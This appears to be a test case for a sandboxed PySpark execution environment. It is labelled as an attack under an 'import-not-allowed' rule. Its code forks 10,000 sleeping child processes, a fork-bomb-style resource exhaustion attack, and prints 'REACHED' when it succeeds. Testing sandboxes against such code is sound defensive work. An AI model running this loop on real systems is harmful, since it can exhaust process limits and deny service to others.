# attack: processes
# rule: import-not-allowed
# goal: Start processes without end. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

import os
import time

for _ in range(10_000):
    if os.fork() == 0:
        time.sleep(60)
print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
